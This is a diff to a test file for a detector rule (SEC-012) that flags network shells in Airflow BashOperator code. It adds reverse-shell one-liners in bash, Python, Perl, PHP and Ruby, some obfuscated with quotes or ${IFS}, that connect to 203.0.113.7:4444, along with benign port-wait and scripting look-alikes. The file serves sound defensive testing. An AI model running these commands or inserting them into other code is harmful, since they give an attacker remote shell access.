@@ -3,6 +3,9 @@ import { placesIn } from "../../analysis/inspect-texts.ts";
 
 const places = (text: string) => placesIn("SEC-012", text);
 
+const bash = (command: string) =>
+  `from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="${command}")\n`;
+
 describe("a shell on the network", () => {
   test.each([
     [
@@ -21,6 +24,22 @@ describe("a shell on the network", () => {
       "socat",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="socat tcp:203.0.113.7:4444 exec:sh")\n',
     ],
+    ["quotes within", bash("b'a'sh \\\"-i\\\" >& /dev/t'c'p/203.0.113.7/4444 0>&1")],
+    ["no spaces", bash(`bash\${IFS}-i>&/dev/tcp/203.0.113.7/4444`)],
+    ["a shell that reads from the network", bash("/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1")],
+    [
+      "Python's code",
+      bash(
+        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect((\\"x\\",1));os.dup2(s.fileno(),0);pty.spawn(\\"sh\\")\'',
+      ),
+    ],
+    [
+      "Python's code in words",
+      'import subprocess\nsubprocess.run(["python3", "-c", "import socket,os;s=socket.create_connection((1,2));os.dup2(s.fileno(),0)"])\n',
+    ],
+    ["Perl's code", bash("perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,x);STDIN->fdopen($c,r);system$_ while<>;'")],
+    ["PHP's code", bash("php -r '$s=fsockopen(x,1);exec(\\\"sh <&3 >&3\\\");'")],
+    ["Ruby's code", bash("ruby -rsocket -e 'f=TCPSocket.open(x,1).to_i;exec sprintf(\\\"sh <&%d\\\",f)'")],
     ["Python", 'import socket, os, pty\npty.spawn("/bin/sh")\n'],
     ["a shell with arguments", 'import pty\npty.spawn(["/bin/bash", "-i"])\n'],
     [
@@ -41,6 +60,11 @@ describe("a shell on the network", () => {
       "waiting by netcat",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="nc -z db 5432")\n',
     ],
+    ["waiting by Python", bash("python -c 'import socket; socket.create_connection((\\\"db\\\", 5432))'")],
+    ["waiting by a shell's option", bash('bash -c \\"</dev/tcp/db/5432\\"')],
+    ["Perl on text", bash("perl -pe 's/a/b/' x | sort")],
+    ["PHP", bash("php -r 'echo 1;'")],
+    ["Ruby", bash("ruby -e 'puts 1'")],
     [
       "redirecting",
       'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="run.sh >& out.txt")\n',
